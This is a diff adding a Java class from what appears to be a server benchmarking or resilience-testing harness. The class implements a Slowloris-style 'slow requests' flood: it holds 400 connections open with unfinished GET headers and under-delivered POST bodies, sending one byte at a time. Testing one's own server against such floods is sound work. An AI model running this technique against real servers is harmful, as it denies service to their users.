@@ -1,0 +1,53 @@
+package lucca.bench.attack;
+
+import java.io.IOException;
+import java.net.Socket;
+import java.nio.charset.StandardCharsets;
+import java.util.ArrayDeque;
+import java.util.Queue;
+
+/// Connections whose request is sent a byte at a time and never ends.
+final class SlowRequests implements Flood {
+    private static final int CONNECTIONS = 400;
+    private static final String HEADER = "GET / HTTP/1.1\r\nHost: localhost\r\nX: ";
+    private static final String BODY =
+            "POST /api/guests HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
+                    + "Content-Length: 4000\r\n\r\n{";
+
+    private final Attacker attacker;
+    private final Queue<Socket> open = new ArrayDeque<>();
+    private int opened;
+
+    SlowRequests(Attacker attacker) {
+        this.attacker = attacker;
+    }
+
+    @Override
+    public String name() {
+        return "slow";
+    }
+
+    /// Opens one more, or sends one more byte on the one that has waited longest.
+    @Override
+    public void strike() throws IOException {
+        if (open.size() < CONNECTIONS) {
+            Socket socket = attacker.connect();
+            send(socket, opened++ % 2 == 0 ? HEADER : BODY);
+            open.add(socket);
+            attacker.count(name(), "opened");
+            return;
+        }
+        Socket next = open.remove();
+        try {
+            send(next, "x");
+            open.add(next);
+        } catch (IOException e) {
+            next.close();
+            attacker.count(name(), "cut off");
+        }
+    }
+
+    private static void send(Socket socket, String text) throws IOException {
+        socket.getOutputStream().write(text.getBytes(StandardCharsets.US_ASCII));
+    }
+}
